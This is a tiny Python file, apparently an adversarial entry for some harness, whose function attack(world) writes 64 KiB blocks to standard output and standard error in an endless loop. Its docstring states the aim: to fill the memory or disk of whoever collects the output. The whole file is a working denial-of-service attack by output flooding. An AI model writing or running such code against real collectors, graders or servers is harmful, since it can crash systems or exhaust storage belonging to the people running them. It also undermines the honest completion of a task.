"""Print without end, to fill the memory or the disk of whoever collects it."""

import os


def attack(world):
    while True:
        os.write(1, b"A" * 65536)
        os.write(2, b"B" * 65536)
